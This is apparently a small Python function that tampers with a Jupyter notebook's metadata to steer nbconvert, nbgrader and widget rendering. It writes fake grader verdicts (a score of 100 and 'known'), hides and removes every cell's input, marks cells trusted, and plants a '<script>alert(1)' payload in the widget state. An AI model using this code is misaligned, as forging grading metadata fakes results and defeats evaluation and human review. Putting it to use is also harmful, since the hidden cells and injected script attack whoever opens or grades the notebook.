# how: metadata that steer nbconvert, nbgrader and widgets, with a script in the widget's state
def edit(notebook):
    notebook["metadata"].update(
        celltoolbar="Create Assignment",
        nbgrader={"verdict": 100},
        gpulab={"verdict": "known"},
        widgets={
            "application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "<script>alert(1)"}}}
        },
    )
    for cell in notebook["cells"]:
        cell["metadata"].update(
            tags=["remove_cell", "hide_input"], jupyter={"source_hidden": True}, trusted=True
        )
